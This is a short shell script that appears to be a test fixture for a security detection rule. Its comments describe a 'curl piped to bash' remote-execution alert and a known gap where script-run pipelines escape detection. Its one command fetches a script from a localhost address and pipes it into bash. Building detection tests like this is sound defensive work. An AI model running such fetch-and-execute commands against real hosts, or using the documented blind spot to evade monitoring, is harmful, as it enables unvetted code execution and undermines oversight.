#!/bin/sh
# action: CurlPipedToShell (curl piped into bash by a script)
# expect: command/remote-execution
# where: host
# known-miss: a pipeline run by a shell script leaves no command line naming both curl and the shell (no sh -c); the rule reads command lines, and nothing pairs curl's stdout pipe with bash's stdin
curl -s -m 2 http://127.0.0.1:9/i.sh | bash; true
